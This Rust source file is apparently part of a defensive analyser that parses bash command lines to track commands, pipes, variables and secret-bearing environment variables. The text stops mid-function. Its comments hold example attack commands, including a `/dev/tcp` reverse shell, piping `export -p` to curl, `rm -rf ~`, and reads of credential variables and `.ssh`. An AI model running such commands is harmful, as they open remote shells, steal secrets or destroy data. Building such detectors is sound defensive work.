//! The walk over tree-sitter-bash's syntax tree that collects simple commands.
//!
//! Every node kind not named here is searched through for commands, so a construct the
//! walk does not know (a `case` arm, a `[[ ]]` test, an arithmetic expansion) still yields
//! the commands nested in it.

use std::borrow::Cow;
use std::cell::Cell;
use std::ops::Range;
use std::time::Instant;

#[cfg(feature = "tree-sitter")]
use crate::bash_tree;
use crate::clients;
use crate::command::{Part, Redirect, Script, SimpleCommand, Target, Unknown};
use crate::debugger::{self, Debugger};
use crate::evaluated::{self, Evaluated};
use crate::expand::{self, Binding, Env, NameRead, Params, UnknownWord, Vars};
use crate::inline::{self, Effect, Value};
use crate::knowledge::{
    self, Evaluation, NetcatRun, SocatAddress, SocatOpens, SHELLS, STDIN_PATHS, STDIN_RUNNERS,
};
use crate::limits::{self, Unreadable, MAX_COMMANDS, MAX_LINKS, MAX_NESTING, MAX_SCRIPT_DEPTH};
use crate::links::Links;
use crate::name_glob;
use crate::path::{basename, normalise};
use crate::printf;
use crate::secret_copies::SecretCopies;
use crate::syntax::Syntax;
use crate::unlisted;
use crate::vim;
use crate::word::unquote;
use crate::{fast, wrapper, writes, xargs, Context};

/// Reads a whole command line; `fast` lets the fast reader read the lines it can
pub(crate) fn read_script(line: &str, context: &Context, fast: bool) -> Result<Script, Unreadable> {
    let mut reader = Reader {
        context: context.clone(),
        fast,
        #[cfg(feature = "tree-sitter")]
        parser: None,
        // Agents' lines hold about one command per 20 bytes: room for that (up to a bound)
        // spares the list the reallocations of growing.
        commands: Vec::with_capacity((line.len() / 20).clamp(4, 64)),
        links: 0,
        deadline: Instant::now() + limits::MAX_TIME,
        vars: Vars::new(),
        expanded: Cell::new(0),
        fed: Vec::new(),
        command_env: Vars::new(),
        aliases: Vec::new(),
        hashed: Vec::new(),
        written: Vec::new(),
        project_copies: Vec::new(),
        written_texts: Vec::new(),
        printed_inputs: Vec::new(),
        output_files: Vec::new(),
        loops: 0,
        project: context.cwd.clone(),
        secret_copies: SecretCopies::default(),
        made_links: Links::default(),
        dotglob: false,
        owed_words: None,
        evaluated: Evaluated::default(),
        fetched: Vec::new(),
        input: None,
        input_text: None,
        secret_words: SecretWords::default(),
        carried: Vec::new(),
        params_carry: Vec::new(),
        functions: Vec::new(),
        calling: Vec::new(),
        params: None,
        here_documents: Vec::new(),
        exit_traps: Vec::new(),
        spare_cwds: Vec::new(),
        cased: Vec::new(),
        coprocess: None,
        side_by_side: Vec::new(),
    };
    reader.script(line, &[], Depth::default())?;
    reader.exit_traps()?;
    reader.uncalled_functions()?;
    if let Some(why) = reader.evaluated.why() {
        reader.push(SimpleCommand {
            unknown: vec![Unknown {
                part: Part::Command,
                why,
            }],
            ..SimpleCommand::default()
        })?;
    }
    Ok(Script {
        commands: reader.commands,
    })
}

/// The state of one reading: the parser, made when first needed and reused for nested
/// scripts, the directories paths are resolved against (`cd` changes them as the shell
/// would), and what it found
struct Reader {
    context: Context,
    /// Whether the fast reader reads the lines it can (see [`fast`])
    fast: bool,
    /// tree-sitter-bash's parser, made when a line first needs it
    #[cfg(feature = "tree-sitter")]
    parser: Option<tree_sitter::Parser>,
    commands: Vec<SimpleCommand>,
    /// The entries of every command's `stdin_from` so far, for [`MAX_LINKS`]
    links: usize,
    /// When parsing gives up, [`limits::MAX_TIME`] after the reading began
    deadline: Instant,
    /// The parameters set on the line so far (`D=~`, `export X=1`, `for d in a b`)
    vars: Vars,
    /// The bytes the reading's expansions have made so far, which a bound holds
    expanded: Cell<usize>,
    /// The parameters that hold the output of commands on the line (`k=$(cat f)`, `for l
    /// in $(xxd f)`), with those commands: a command whose words use one reads their output
    fed: Vec<(String, Vec<usize>)>,
    /// The environment the command being read is given before its name (`X=1 git diff`)
    command_env: Vars,
    /// The aliases defined on the line so far, name and value (`None` for a name only
    /// known at run time: `BASH_ALIASES[$k]=…`)
    aliases: Vec<(Option<String>, String)>,
    /// The names `hash -p FILE NAME` bound on the line so far to the file they run (`None`
    /// for a name only known at run time, which may be any)
    hashed: Vec<(Option<String>, String)>,
    /// The files written on the line so far (redirects, `curl -o`, `tee`), normalised
    written: Vec<String>,
    /// The entries of `written` that copy a file of the project the line did not write
    /// (`cp target/release/app /tmp/t`): run, such a copy runs the project's own code
    project_copies: Vec<usize>,
    /// The entries of `written` whose whole text the line gave as literal words (`cat >
    /// x.sh <<'EOF'`, `echo 'ls' > x.sh`), with that text: a script run from such a file is
    /// read as the text it holds
    written_texts: Vec<(usize, String)>,
    /// The commands that print a literal input they were given whole (`cat <<'EOF'`), with
    /// what they print
    printed_inputs: Vec<(usize, String)>,
    /// The folder the line starts in, whose files are the project's
    project: Option<String>,
    /// The files output redirects wrote on the line so far, each with the commands whose
    /// output went into it (`kubectl get ns x -o yaml > n.yaml`)
    output_files: Vec<(String, Vec<usize>)>,
    /// How many loops the command being read is in
    loops: usize,
    /// The files among them written from a secret, which carry it
    secret_copies: SecretCopies,
    /// The links made on the line so far (`ln -s`, `mount --bind`): a path through one is
    /// read as the path it leads to
    made_links: Links,
    /// The scripts the shell runs when it exits (`trap '…' EXIT`), read once the line is,
    /// with the variables and the folder it ends with
    exit_traps: Vec<String>,
    /// Whether a pattern may match a name that starts with `.`: the line turned on `shopt
    /// -s dotglob` or `bash -O dotglob`, or set `GLOBIGNORE`, which does so too, or
    /// `BASHOPTS` (bash(1))
    dotglob: bool,
    /// Words the parser left out of a command and hangs on its redirects, owed to it, as
    /// written: a lone `-` before a redirect (`kubectl apply -f - <<EOF`) and the words after
    /// a redirect's target (`psql < schema.sql -d app`, read as `> schema.sql` and `-d app`);
    /// with where that command starts in memory, so that a command a substitution runs
    /// first (`rm > "$(echo f)" -rf ~`) cannot take them
    owed_words: Option<(usize, Vec<String>)>,
    /// Text holding a command substitution, and places that evaluate text (`let`, `${x@P}`)
    evaluated: Evaluated,
    /// The folders fetched on the line so far (`git clone URL d`), normalised: a file in one
    /// is code from elsewhere
    fetched: Vec<String>,
    /// Where the statement being walked reads its input from by redirect
    input: Option<RedirectedInput>,
    /// The literal text the commands being walked inherit as their input (a script's, a
    /// group's here-string, a pipe's), which a substitution in their words reads: `$(cat)`
    /// prints it, and a shell in `$(…)` runs it
    input_text: Option<String>,
    /// What the words of the command being read expand of the environment's secrets
    secret_words: SecretWords,
    /// The variables the line set from the environment's, each with the names whose values
    /// it carries (`v=$AWS_SECRET_ACCESS_KEY`); the latest assignment of a name counts
    carried: Vec<(String, Vec<String>)>,
    /// The environment's variables the words of the function call being read expand, which
    /// its positional parameters carry (`f "$AWS_SECRET_ACCESS_KEY"`)
    params_carry: Vec<String>,
    /// The variables `declare -l` or `-u` gave a case: every value assigned to them after,
    /// in the declaration or later on the line, is converted to it
    cased: Vec<(String, Case)>,
    /// The array of descriptors of the coprocess whose command is being read (`COPROC` of
    /// `coproc sh`): a program that runs its input reads, as that coprocess, whatever the
    /// line writes to `${COPROC[1]}`, which only run time knows
    coprocess: Option<String>,
    /// The commands read from the words of a loop's passes side by side, besides the
    /// command of each pass: they tell what the passes may do together, and print nothing
    /// bash prints
    side_by_side: Vec<Range<usize>>,
    /// The functions defined on the line so far
    functions: Vec<Function>,
    /// The functions whose call is being read, outermost first
    calling: Vec<String>,
    /// The positional parameters of the function call being read; `None` when only run time
    /// knows them (the line's own, or after `shift` or `set --`)
    params: Option<Params>,
    /// The bodies of here-documents with an unquoted delimiter read so far, each with the
    /// texts bash hands its command once expanded (`expand::here_document`)
    here_documents: Vec<(String, Vec<String>)>,
    /// Buffers for the folder a command starts in, which [`Reader::simple`] keeps to put
    /// back: one per command being read inside another, reused by the commands after it
    spare_cwds: Vec<Option<String>>,
}

/// A function defined on the line
struct Function {
    name: String,
    /// Its body, as source text
    body: String,
    /// Whether its body was read: at a call the line shows, or once the line was
    called: bool,
}

/// Where a statement reads its input from by redirect, for a program that runs its input
#[derive(Debug, Clone)]
enum RedirectedInput {
    /// A descriptor other than the standard input (`bash <&3`), which an earlier command
    /// opened on what only run time knows (`exec 3< <(curl …)`)
    Descriptor(String),
    /// A file, as its word expands (`bash < x.sh`): what it holds is read only when the
    /// line wrote or fetched it, as for `bash x.sh`
    File(String),
    /// A network socket bash opens (`/dev/tcp/HOST/PORT`) on any descriptor of the
    /// statement: with its input or output on the network, a shell runs what comes from it
    /// (`bash -i >& /dev/tcp/h/4444 0>&1`)
    Socket(String),
}

/// Where a node is walked: its source text, the commands feeding its input, and how deep
#[derive(Clone, Copy)]
struct At<'s, 'u> {
    source: &'s str,
    upstream: &'u [usize],
    depth: Depth,
}

/// How deep the walk is, counted across nested scripts so the stack stays bounded
#[derive(Clone, Copy, Default)]
struct Depth {
    /// Scripts deep (`sh -c` in `sh -c`), for [`MAX_SCRIPT_DEPTH`]
    scripts: usize,
    /// Syntax nodes deep, for [`MAX_TREE_DEPTH`]
    nodes: usize,
}

/// Kinds of node that hold no commands: the walk passes them by
const LEAVES: &[&str] = &[
    "comment",
    "heredoc_start",
    "heredoc_end",
    "word",
    "raw_string",
    "string_content",
    "variable_name",
    "file_descriptor",
];

/// The deepest syntax tree walked; `a && b && ...` nests one level per command
const MAX_TREE_DEPTH: usize = 2 * MAX_NESTING;

impl Reader {
    /// Parses `text` as a script whose commands read the output of `upstream`
    fn script(&mut self, text: &str, upstream: &[usize], depth: Depth) -> Result<(), Unreadable> {
        self.script_fed(text, upstream, depth, None)
    }

    /// Reads `text` as [`Self::script`] does, each of its commands at the top given `input`
    /// as their literal input (`ssh HOST 'bash -s' <<EOF`: the remote command reads what
    /// ssh reads; which of them reads it first only run time knows)
    fn script_fed(
        &mut self,
        text: &str,
        upstream: &[usize],
        depth: Depth,
        input: Option<String>,
    ) -> Result<(), Unreadable> {
        if depth.scripts > MAX_SCRIPT_DEPTH {
            return Err(Unreadable::TooDeep);
        }
        limits::check(text)?;
        let at = At {
            source: text,
            upstream,
            depth,
        };
        if self.fast {
            if let Some(tree) = fast::read(text) {
                return self.node(tree.root(), at, input);
            }
        }
        self.full_parse(at, input)
    }

    /// Reads a line the fast reader gave up with tree-sitter-bash
    #[cfg(feature = "tree-sitter")]
    fn full_parse(&mut self, at: At<'_, '_>, input: Option<String>) -> Result<(), Unreadable> {
        let parser = match &mut self.parser {
            Some(parser) => parser,
            None => self.parser.insert(bash_tree::parser()?),
        };
        let tree = bash_tree::parse(parser, at.source, self.deadline)?;
        self.node(bash_tree::root(&tree, at.source), at, input)
    }

    /// Without tree-sitter-bash, a line the fast reader gave up cannot be read
    #[cfg(not(feature = "tree-sitter"))]
    fn full_parse(&mut self, at: At<'_, '_>, _: Option<String>) -> Result<(), Unreadable> {
        Err(limits::unterminated(at.source)
            .or_else(|| limits::read_write_redirect(at.source))
            .unwrap_or(Unreadable::NoFullParser))
    }

    /// Collects the commands of any node; `stdin` is the literal text its input holds (a
    /// here-string, what a pipe or a script's input hands it), which every command in it
    /// that reads its input inherits: which of them reads it first only run time knows
    fn node<N: Syntax>(
        &mut self,
        node: N,
        at: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<(), Unreadable> {
        // Leaves hold no commands; whether one lies below the depth bound does not matter.
        if LEAVES.contains(&node.kind()) {
            return Ok(());
        }
        self.evaluated
            .place(evaluated::node_place(node.kind(), text(node, at.source)));
        if at.depth.nodes > MAX_TREE_DEPTH {
            return Err(Unreadable::TooDeep);
        }
        let inner = At {
            depth: Depth {
                nodes: at.depth.nodes + 1,
                ..at.depth
            },
            ..at
        };
        // A body a loop runs again and again is read once: what `shift` does there is
        // counted once, so it is only known at run time.
        let looping = matches!(
            node.kind(),
            "for_statement" | "while_statement" | "c_style_for_statement"
        );
        self.loops += usize::from(looping);
        if looping {
            self.flood(node, at)?;
        }
        // What the commands inside inherit as their input, for `$(cat)` in their words; a
        // simple command's own here-string is not it, as bash expands the words first.
        let inherits = node.kind() != "command";
        let outer_input = if inherits {
            std::mem::replace(&mut self.input_text, stdin.clone())
        } else {
            None
        };
        let walked = self.node_of_kind(node, at, inner, stdin);
        if inherits {
            self.input_text = outer_input;
        }
        self.loops -= usize::from(looping);
        walked
    }

    /// Walks `node` by its kind ([`Self::node`] with the depth checked)
    fn node_of_kind<N: Syntax>(
        &mut self,
        node: N,
        at: At<'_, '_>,
        inner: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<(), Unreadable> {
        match node.kind() {
            "command" => self.command(node, inner, stdin),
            "pipeline" => self.pipeline(node, inner, stdin),
            "redirected_statement" => self.redirected(node, inner, stdin),
            // Values set here hold for the commands after them; what runs in them is walked.
            "variable_assignment" => {
                self.assign(node, at.source);
                let start = self.commands.len();
                let walked = self.children_fed(node, inner, stdin);
                if let Some((name, _)) = text(node, at.source).split_once('=') {
                    // `k[key]=$(cat f)` feeds the array `k` (`"${k[key]}"`).
                    let name = name.trim_end_matches('+');
                    self.feed(name.split_once('[').map_or(name, |(array, _)| array), start);
                }
                walked
            }
            // The single-quoted operands of a test are text it may evaluate (`-v 'a[...]'`).
            "test_command" => {
                self.quoted_operands(node, at.source, 0);
                self.children_fed(node, inner, stdin)
            }
            // `unset` is a builtin command of its own, as a declaration is (`unset HISTFILE`),
            // and its single-quoted operands are text it may evaluate (`unset 'a[...]'`).
            "unset_command" => {
                self.quoted_operands(node, at.source, 0);
                // `unset IFS` gives back bash's default splitting, which joins with a blank.
                if unsets_ifs(text(node, at.source)) {
                    self.bind("IFS".to_owned(), Binding::Known(vec![" \t\n".to_owned()]));
                }
                let values_from = self.commands.len();
                self.children_fed(node, inner, stdin)?;
                self.declaration(node, at, values_from)
            }
            // The loop's variable takes the output of the substitutions in its list.
            "for_statement" => {
                let values: Vec<N> = node.field("value").collect();
                let start = self.commands.len();
                for value in &values {
                    self.node(*value, inner, stdin.clone())?;
                }
                self.for_loop(node, at.source, start);
                if let Some(variable) = node.field("variable").next() {
                    self.feed(text(variable, at.source), start);
                }
                for child in node.named_children() {
                    if !values
                        .iter()
                        .any(|value| value.byte_range() == child.byte_range())
                    {
                        self.node(child, inner, stdin.clone())?;
                    }
                }
                Ok(())
            }
            // `declare -n r=HOME` makes `$r` a reference to another variable, whose value
            // the reader does not follow: the names it binds are only known at run time.
            // `declare -n r=v` makes `r` a reference to `v`; to a name only run time knows,
            // or to an array's element, it is only known then.
            "declaration_command" if declares_references(node, at.source) => {
                self.quoted_operands(node, at.source, 0);
                let mut references = Vec::new();
                for child in node.named_children() {
                    if child.kind() == "variable_assignment" {
                        if let Some((name, raw)) = text(child, at.source).split_once('=') {
                            let binding = match self.value_of(raw) {
                                Binding::Known(values) => match values.as_slice() {
                                    [target] if expand::is_name(target) && target != name => {
                                        Binding::Reference(target.clone())
                                    }
                                    _ => Binding::Unknown(format!(
                                        "`${name}` refers to a variable named at run time (`declare -n`)"
                                    )),
                                },
                                _ => Binding::Unknown(format!(
                                    "`${name}` refers to a variable named at run time (`declare -n`)"
                                )),
                            };
                            references.push((name.to_owned(), binding));
                        }
                    }
                }
                let values_from = self.commands.len();
                let walked = self.children_fed(node, inner, stdin);
                self.vars.extend(references);
                walked?;
                self.declaration(node, at, values_from)
            }
            // A `cd` or an assignment in a subshell or a substitution ends with it: after
            // `x=$(x=.ssh; echo ~/$x)`, `$x` is the substitution's output, not `.ssh`.
            "subshell" | "command_substitution" | "process_substitution" => {
                let cwd = self.context.cwd.clone();
                let vars = self.vars.len();
                let upstream = if node.kind() == "subshell" {
                    at.upstream
                } else {
                    &[]
                };
                let start = self.commands.len();
                // A subshell and a substitution read the input of the shell around them.
                let walked = self.children_fed(node, At { upstream, ..inner }, stdin);
                // What a substitution prints becomes a word of the line, not its output.
                if node.kind() != "subshell" {
                    for command in self.commands.get_mut(start..).unwrap_or_default() {
                        command.captured = true;
                    }
                }
                self.context.cwd = cwd;
                self.vars.truncate(vars);
                walked
            }
            "declaration_command" => {
                self.quoted_operands(node, at.source, 0);
                let values_from = self.commands.len();
                if let Some(case) = case_attribute(node, at.source) {
                    self.cased
                        .extend(declared_names(node, at.source).map(|name| (name, case)));
                }
                self.children_fed(node, inner, stdin)?;
                self.declaration(node, at, values_from)
            }
            // A call the line shows reads the body with the call's words; a function no such
            // call reads is read once the line is, for a call the line does not show
            // (`command_not_found_handle`, a trap), with its parameters unknown.
            "function_definition" => {
                match (node.field("name").next(), node.field("body").next()) {
                    (Some(name), Some(body)) => self.functions.push(Function {
                        name: text(name, at.source).to_owned(),
                        body: text(body, at.source).to_owned(),
                        called: false,
                    }),
                    _ => self.children(node, inner)?,
                }
                Ok(())
            }
            // Lists, groups, `if`, `while`, `case`, …: each command in them inherits the
            // input (`bash -c 'cd x && bash -s' <<< …`, `{ true; sh; } <<< …`).
            _ => self.children_fed(node, inner, stdin),
        }
    }

    /// `declare -x`, `export -p`, `local x=1`, `unset x`: the builtin is a command of its
    /// own, which prints the variables when given no name (`export -p | curl -d @- …`). Its words are its
    /// flags and the names it declares; the values were read as the assignments they are,
    /// and the commands of their substitutions, from `values_from` on, are upstream of it
    /// (`export T=$(gh auth token)` hands the token to the variable, not to the transcript).
    fn declaration<N: Syntax>(
        &mut self,
        node: N,
        at: At<'_, '_>,
        values_from: usize,
    ) -> Result<(), Unreadable> {
        let source = text(node, at.source);
        let Some(program) = source.split_whitespace().next() else {
            return Ok(());
        };
        // A word is expanded as a simple command's is (`export "-p"` prints, `export $opt`
        // is only known at run time); an assignment stands for its name.
        let mut args = Vec::new();
        for child in node.named_children() {
            let word = text(child, at.source);
            match child.kind() {
                "variable_assignment" => {
                    args.push(
                        word.split_once('=')
                            .map_or(word, |(name, _)| name)
                            .to_owned(),
                    );
                }
                _ => expand::word(word, &self.env(), &mut args),
            }
        }
        // `declare "a[\$(cmd)]=1"`: a name built by quoting is evaluated as the declaration's.
        for arg in &args {
            self.evaluated.text(arg);
        }
        let upstream: Vec<usize> = at
            .upstream
            .iter()
            .copied()
            .chain(values_from..self.commands.len())
            .collect();
        let command = simple_command(
            program.to_owned(),
            args,
            &upstream,
            &self.context,
            &self.made_links,
        );
        self.push(command)
    }

    /// Notes the single-quoted strings below `node` as text, down to [`MAX_TREE_DEPTH`]
    fn quoted_operands<N: Syntax>(&mut self, node: N, source: &str, depth: usize) {
        for child in node.named_children() {
            if child.kind() == "raw_string" {
                self.evaluated.text(&unquote(text(child, source)));
            } else if depth < MAX_TREE_DEPTH {
                self.quoted_operands(child, source, depth + 1);
            }
        }
    }

    fn children<N: Syntax>(&mut self, node: N, at: At<'_, '_>) -> Result<(), Unreadable> {
        self.children_fed(node, at, None)
    }

    /// Collects the commands of every child of `node`, each given `stdin` as its input
    fn children_fed<N: Syntax>(
        &mut self,
        node: N,
        at: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<(), Unreadable> {
        for child in node.named_children() {
            self.node(child, at, stdin.clone())?;
        }
        Ok(())
    }

    /// `a | b | c`: each element reads the output of every element before it, and the
    /// first one reads `stdin`
    fn pipeline<N: Syntax>(
        &mut self,
        node: N,
        at: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<(), Unreadable> {
        // Room for the commands of a few elements, which most pipelines fill, spares
        // growing the list as each element adds its own.
        let mut upstream = Vec::with_capacity(at.upstream.len() + 8);
        upstream.extend_from_slice(at.upstream);
        let mut literal = stdin;
        // Every element of a pipeline runs in a subshell of its own, so a `cd` in one moves
        // neither the others nor what follows the pipeline.
        let cwd = self.context.cwd.clone();
        for child in node.named_children() {
            self.context.cwd.clone_from(&cwd);
            let start = self.commands.len();
            // What the element inherits as its input: the pipe's literal text, if any.
            self.input_text.clone_from(&literal);
            self.node(
                child,
                At {
                    upstream: &upstream,
                    ..at
                },
                literal.take(),
            )?;
            literal = self.printed_literal(start);
            upstream.extend(start..self.commands.len());
        }
        self.context.cwd = cwd;
        Ok(())
    }

    /// What the commands from `start` print when each is an `echo` or `printf` of literal
    /// words (`echo 'rm -rf ~'`, `{ echo a; echo b; }`), one after the other as they write
    /// it: `echo` a line each, `printf` what its format makes, so that a loop's
    /// `printf "\\$o"` gives one word a letter at a time
    fn printed_literal(&self, start: usize) -> Option<String> {
        let commands = self.commands.get(start..)?;
        if commands.is_empty() {
            return None;
        }
        // All its words: `echo -9 -1` prints `-9 -1`, and `echo -e` decodes escapes
        // (`\x72\x6d` is `rm`). Most commands print nothing literal: nothing is allocated
        // before the first one that does.
        let printed: Vec<String> = commands
            .iter()
            .zip(start..)
            // A substitution's output is a word of the line, not what the commands print.
            .filter(|(command, index)| {
                !command.captured
                    && !self
                        .side_by_side
                        .iter()
                        .any(|commands| commands.contains(index))
            })
            .map(|(command, index)| {
                if !command.unknown.is_empty() {
                    return None;
                }
                printf::written(&command.program, &command.args).or_else(|| {
                    self.printed_inputs
                        .iter()
                        .find(|(printer, _)| *printer == index)
                        .map(|(_, text)| format!("{text}\n"))
                })
            })
            .collect::<Option<_>>()?;
        Some(printed.concat())
    }

    /// Records `NAME=value` for the commands after it
    fn assign<N: Syntax>(&mut self, node: N, source: &str) {
        let Some((name, raw)) = text(node, source).split_once('=') else {
            return;
        };
        self.name_table_elements(name.trim_end_matches('+'), raw);
        let appends = name.ends_with('+');
        // `r=x` of a reference `r` sets the variable it refers to.
        let target = expand::referenced(&self.vars, name.trim_end_matches('+'));
        let name = target.as_str();
        let binding = if let Some((array, subscript)) =
            name.strip_suffix(']').and_then(|name| name.split_once('['))
        {
            // `R[0]=x` of a reference `R` sets an element of the array it refers to.
            let array = expand::referenced(&self.vars, array);
            let binding = self.element_set(&array, subscript, raw, appends);
            return self.bind(array, binding);
        } else if raw.starts_with('(') {
            self.array_of(name, raw, appends)
        } else if appends {
            Binding::Unknown(format!("`${name}` is built at run time"))
        } else {
            self.value_of(raw)
        };
        let mut carried = Vec::new();
        if appends {
            carried.extend(self.carried_by(name).iter().cloned());
        }
        self.environment_reads(raw, &mut carried);
        self.carried.push((name.to_owned(), carried));
        self.bind(name.to_owned(), binding);
    }

    /// Records that the commands after this point see `name` bound to `binding`, as far as
    /// the reader follows it (see [`Binding::bounded`])
    fn bind(&mut self, name: String, binding: Binding) {
        // `BASHOPTS` in a shell's environment sets its options as it starts.
        self.dotglob |= name == "GLOBIGNORE" || name == "BASHOPTS";
        let mut binding = binding.bounded(&name);
        if let Some((_, case)) = self.cased.iter().rev().find(|(cased, _)| *cased == name) {
            if let Binding::Known(values) = &mut binding {
                for value in values.iter_mut().filter(|value| !expand::is_unknown(value)) {
                    *value = match case {
                        Case::Lower => value.to_lowercase(),
                        Case::Upper => value.to_uppercase(),
                    };
                }
            }
        }
        self.vars.push((name, binding));
    }

    /// The array `name` holds after `name=( … )` (`+=` appends to it): each word of an
    /// element expanded as a command's words are, a `[KEY]=VALUE` as an assignment's value
    fn array_of(&mut self, name: &str, raw: &str, appends: bool) -> Binding {
        let unknown = || Binding::Unknown(format!("the array `${name}` is built at run time"));
        let held = if appends {
            self.array_held(name)
        } else {
            Some(expand::Array::default())
        };
        let Some(mut array) = held else {
            return unknown();
        };
        let Some(elements) = expand::array_elements(raw) else {
            return unknown();
        };
        for (key, value) in elements {
            match key {
                Some(key) => {
                    let index = expand::subscript_index(key, &self.vars);
                    let value = self.element_value(value);
                    array.set(index, value);
                }
                None => {
                    let mut words = Vec::new();
                    expand::word(value, &self.env(), &mut words);
                    for word in words {
                        self.evaluated.text(&word);
                        if UnknownWord::decode(&word).is_some_and(|unknown| unknown.split) {
                            array.exact = false;
                        }
                        let index = array.next_index();
                        array.set(Some(index), word);
                    }
                }
            }
        }
        Binding::Array(array)
    }

    /// The array `name` holds after `name[SUBSCRIPT]=VALUE`: a value the line set is its
    /// element 0; one only run time knows stays so
    fn element_set(&mut self, name: &str, subscript: &str, raw: &str, appends: bool) -> Binding {
        let Some(mut array) = self.array_held(name) else {
            return Binding::Unknown(format!("`${name}` is built at run time"));
        };
        let index = expand::subscript_index(subscript, &self.vars);
        let value = if appends {
            unknown_path(format!("`${{{name}[{subscript}]}}` is built at run time")).encode()
        } else {
            self.element_value(raw)
        };
        array.set(index, value);
        Binding::Array(array)
    }

    /// The array `name` holds as the line has set it: none yet is an empty one, a value its
    /// element 0; `None` when only run time knows it
    fn array_held(&self, name: &str) -> Option<expand::Array> {
        match self.binding(name) {
            None => Some(expand::Array::default()),
            Some(Binding::Array(array)) => Some(array.clone()),
            Some(Binding::Known(values)) => match values.as_slice() {
                [value] => Some(expand::Array::of_value(value.clone())),
                _ => None,
            },
            Some(Binding::Unknown(_) | Binding::Reference(_)) => None,
        }
    }

    /// The latest binding of `name` on the line
    fn binding(&self, name: &str) -> Option<&Binding> {
        expand::lookup(&self.vars, name)
    }

    /// An element's value, as an assignment's is read (one word, never split)
    fn element_value(&mut self, raw: &str) -> String {
        match self.value_of(raw) {
            Binding::Known(mut values) if values.len() == 1 => values.pop().unwrap_or_default(),
            Binding::Unknown(why) => unknown_path(why).encode(),
            _ => unknown_path(format!("the element `{raw}` is known only at run time")).encode(),
        }
    }

    /// `BASH_ALIASES[z]=VALUE`, `BASH_CMDS+=([z]=FILE)`: each element set of one of bash's
    /// tables of names defines what `alias` or `hash -p` would; a value known only at run
    /// time is an alias or a file only known then
    fn name_table_elements(&mut self, name: &str, raw: &str) {
        let (array, elements) = match name.split_once('[') {
            Some((array, key)) => (array, vec![(key.strip_suffix(']').unwrap_or(key), raw)]),
            None => (name, expand::keyed_elements(raw).unwrap_or_default()),
        };
        let Some(table) = knowledge::name_table(array) else {
            return;
        };
        for (key, raw) in elements {
            let mut keys = Vec::new();
            expand::word(key, &self.env(), &mut keys);
            let key = match keys.as_slice() {
                [one] if !expand::is_unknown(one) => Some(one.clone()),
                _ => None,
            };
            let value = match self.value_of(raw) {
                Binding::Known(values) => values.join(" "),
                Binding::Unknown(why) => unknown_path(why).encode(),
                Binding::Array(_) | Binding::Reference(_) => {
                    unknown_path(format!("`{array}[{key:?}]` is only known at run time")).encode()
                }
            };
            match table {
                knowledge::NameTable::Aliases => self.aliases.push((key, value)),
                knowledge::NameTable::Hashed => self.hashed.push((key, value)),
            }
        }
    }

    /// Records that `name` holds the output of the commands created since `start`, if any
    fn feed(&mut self, name: &str, start: usize) {
        let created: Vec<usize> = (start..self.commands.len()).collect();
        if !created.is_empty() {
            self.fed.push((name.to_owned(), created));
        }
    }

    /// Whether `word` expands a variable the line does not set whose name marks a
    /// credential, by name or through another (`k=TOKEN; "${!k}"`), or one named at run
    /// time (`${!v}`: any, a secret among them)
    fn expands_a_secret(&self, word: &str) -> bool {
        expand::reads_any(&self.vars, word, |read| match read {
            NameRead::Spelled(name) | NameRead::Resolved(name) => self.is_secret(name),
            NameRead::Hidden => true,
        })
    }

    /// Whether `word` expands a variable whose name its text hides: one named at run time
    /// (`${!v}`, whichever `v` holds), or through indirection or a reference to one the line
    /// does not set whose name marks a credential (`declare -n k=GITHUB_TOKEN; "$k"`)
    fn hides_a_secret(&self, word: &str) -> bool {
        expand::reads_any(&self.vars, word, |read| match read {
            NameRead::Spelled(_) => false,
            NameRead::Resolved(name) => self.is_secret(name),
            NameRead::Hidden => true,
        })
    }

    /// Adds to `names` the variables of the environment `raw` expands: those it spells or
    /// resolves (through `${!k}` or a reference) that the line does not set, and those whose
    /// values a variable the line set from them carries (`v=$AWS_SECRET_ACCESS_KEY; "$v"`)
    fn environment_reads(&self, raw: &str, names: &mut Vec<String>) {
        if !raw.contains('$') {
            return;
        }
        if ["$@", "${@", "$*", "${*"]
            .iter()
            .any(|all| raw.contains(all))
        {
            names.extend(self.params_carry.iter().cloned());
        }
        expand::reads_any(&self.vars, raw, |read| {
            let (NameRead::Spelled(name) | NameRead::Resolved(name)) = read else {
                return false;
            };
            if name.bytes().all(|byte| byte.is_ascii_digit()) {
                names.extend(self.params_carry.iter().cloned());
            } else if let Some(carried) = latest(&self.carried, name) {
                names.extend(carried.iter().cloned());
            } else if self.environment(name).is_none() && !names.iter().any(|had| had == name) {
                names.push(name.to_owned());
            }
            false
        });
    }

    /// The names of the environment's variables the latest value the line gave `name`
    /// carries
    fn carried_by(&self, name: &str) -> &[String] {
        latest(&self.carried, name).unwrap_or_default()
    }

    /// Whether `name` marks a credential and the line leaves it to the environment
    fn is_secret(&self, name: &str) -> bool {
        knowledge::names_a_credential(name) && self.environment(name).is_none()
    }

    /// The commands whose output the variables `word` uses hold ([`Reader::fed`])
    fn fed_into(&self, word: &str, upstream: &mut Vec<usize>) {
        if self.fed.is_empty() || !word.contains('$') {
            return;
        }
        // A reference fed (`declare -n r=k; r=$(cat f)`) is read through what it refers to.
        expand::reads_any(&self.vars, word, |read| {
            if let NameRead::Spelled(name) | NameRead::Resolved(name) = read {
                for (fed, commands) in &self.fed {
                    if fed == name || expand::referenced(&self.vars, fed) == name {
                        upstream.extend(commands);
                    }
                }
            }
            false
        });
    }

    /// The value `raw` gives a parameter
    fn value_of(&mut self, raw: &str) -> Binding {
        let passes = expand::passes(raw, &self.env());
        for word in passes.iter().flatten() {
            self.evaluated.text(word);
        }
        let mut values = Vec::with_capacity(passes.len());
        let mut unknown_why = None;
        for words in &passes {
            match (
                words.as_slice(),
                words.iter().find_map(|word| UnknownWord::decode(word)),
            ) {
                // Known up to a part (`$(mktemp -d)`, `/tmp/$X`, `$X:/lib`), or known to be
                // one word (`$(git describe)`): kept so, for the words it goes into.
                ([one], Some(unknown))
                    if !unknown.prefix.is_empty()
                        || !unknown.suffix.is_empty()
                        || unknown.one_word =>
                {
                    values.push(one.clone());
                }
                (_, Some(unknown)) => {
                    values.push(unknown_path(unknown.why.clone()).encode());
                    unknown_why.get_or_insert(unknown.why);
                }
                (_, None) => values.push(words.join(" ")),
            }
        }
        // A pass of a value only run time knows beside one the line gives (`p=${X:-~/.netrc}`)
        // keeps both; only unknown passes leave the whole value unknown.
        match unknown_why {
            Some(why) if values.iter().all(|value| expand::is_unknown(value)) => {
                Binding::Unknown(why)
            }
